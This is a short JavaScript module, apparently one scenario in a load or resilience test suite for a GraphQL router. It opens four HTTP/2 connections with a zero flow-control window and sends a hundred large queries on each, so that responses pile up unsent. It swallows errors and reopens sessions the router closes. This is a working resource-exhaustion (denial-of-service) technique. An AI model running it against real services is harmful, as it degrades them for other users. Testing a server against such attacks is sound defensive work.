// HTTP/2 with a window of 0: a hundred responses of several megabytes on each of 4 connections, none of which can be
// sent.
import http2 from "node:http2";
import { setTimeout as pause } from "node:timers/promises";
import { connect } from "../sockets.mjs";
import { LARGE } from "./unread_http1.mjs";

const CONNECTIONS = 4;
const STREAMS = 100;

/**
 * Delay before a session that the router has closed is reopened, because producing the responses takes CPU time from
 * other clients.
 */
const REOPEN_MS = 1_000;

export default {
  run({ graphql, signal, sent }) {
    const { origin, pathname } = new URL(graphql);
    const open = () => {
      if (signal.aborted) return;
      const session = http2.connect(origin, {
        createConnection: () => connect(graphql),
        settings: { initialWindowSize: 0 },
      });
      session.on("error", () => {});
      session.on("close", async () => {
        await pause(REOPEN_MS);
        open();
      });
      for (let index = 0; index < STREAMS; index += 1) {
        const stream = session.request({
          ":method": "POST", ":path": pathname, "content-type": "application/json",
        });
        stream.on("error", () => {});
        stream.end(JSON.stringify({ query: LARGE }));
        sent();
      }
    };
    for (let index = 0; index < CONNECTIONS; index += 1) open();
  },
};
